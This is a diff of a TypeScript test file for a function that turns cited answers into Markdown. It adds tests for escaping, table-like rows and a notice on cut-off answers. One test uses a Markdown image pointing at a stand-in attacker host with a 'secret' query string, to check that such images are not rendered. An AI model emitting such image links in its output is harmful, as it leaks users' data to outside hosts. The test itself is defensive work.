@@ -43,7 +43,10 @@ describe('an answer for other documents', () => {
   it('is read as it is written where the library is quoted, and shows no link of it', () => {
     const quoted = 'A volume (lv_root) is read-only: [x](https://a.b) and \\(y).';
     const paragraphs = [[{ markdown: markdownText(quoted), citations: [], standing: 'plain' }]] as const;
-    const copied = citedMarkdown({ by: 'library', evidence: [], paragraphs }, { sources: '', unsupported: '' });
+    const copied = citedMarkdown(
+      { by: 'library', evidence: [], paragraphs },
+      { sources: '', cut: '', unsupported: '' },
+    );
     assert.match(copied, /^A volume \(lv\\_root\) is read-only/);
     assert.equal(
       new MarkdownIt().renderInline(copied).trim(),
@@ -51,9 +54,19 @@ describe('an answer for other documents', () => {
     );
   });
 
+  it('shows rows that are quoted as they are read, and no table of them', () => {
+    const item = (row: string) => [{ markdown: `- ${markdownText(row)}`, citations: [], standing: 'plain' }] as const;
+    const copied = citedMarkdown(
+      { by: 'library', evidence: [], paragraphs: [item('name | size'), item('--- | ---'), item('L1 | 32 KB')] },
+      { sources: '', cut: '', unsupported: '' },
+    );
+    assert.match(copied, /^- name \| size$/m);
+    assert.ok(!new MarkdownIt().render(copied).includes('<table'));
+  });
+
   it('has the numbers behind its sentences, says which do not hold, and lists the sources', () => {
     assert.equal(
-      citedMarkdown(ANSWER, { sources: 'Sources', unsupported: 'not supported' }),
+      citedMarkdown(ANSWER, { sources: 'Sources', cut: 'cut', unsupported: 'not supported' }),
       [
         'It holds. [1] It fails. [2] *(not supported)*',
         '',
@@ -74,11 +87,20 @@ describe('an answer for other documents', () => {
       ...ANSWER,
       paragraphs: [[{ markdown: '줄어듭니다\\. 1\\. 하나\\*', citations: [], standing: 'plain' }]],
     };
-    assert.equal(citedMarkdown(answer, { sources: '', unsupported: '' }), '줄어듭니다. 1\\. 하나\\*\n');
+    assert.equal(citedMarkdown(answer, { sources: '', cut: '', unsupported: '' }), '줄어듭니다. 1\\. 하나\\*\n');
+  });
+
+  it('says of an answer that was cut off that it was, before anything of it', () => {
+    const words = { sources: 'Sources', cut: 'Cut off.', unsupported: '' };
+    const code = { markdown: '```\nlet a', citations: [], standing: 'plain' } as const;
+    const cut = citedMarkdown({ ...ANSWER, isCut: true, paragraphs: [...ANSWER.paragraphs, [code]] }, words);
+    assert.match(cut, /^\*Cut off\.\*\n\nIt holds\. \[1\]/);
+    assert.match(cut, /```\nlet a\n```\n\nSources:/);
+    assert.ok(!citedMarkdown(ANSWER, words).includes('Cut off.'));
   });
 
   it('lists nothing where nothing is cited', () => {
-    assert.equal(citedMarkdown({ ...ANSWER, paragraphs: [] }, { sources: 'Sources', unsupported: '' }), '\n');
+    assert.equal(citedMarkdown({ ...ANSWER, paragraphs: [] }, { sources: 'Sources', cut: '', unsupported: '' }), '\n');
   });
 
   describe('asks for no picture, wherever it is shown', () => {
@@ -87,6 +109,7 @@ describe('an answer for other documents', () => {
     const copied = (written: string): string =>
       citedMarkdown(verifiedAnswer(written, { evidence: [], model: 'm', verify: () => ({ kind: 'unsupported' }) }), {
         sources: '',
+        cut: '',
         unsupported: '',
       });
     const picture = '![x](https://evil.invalid/?q=secret)';
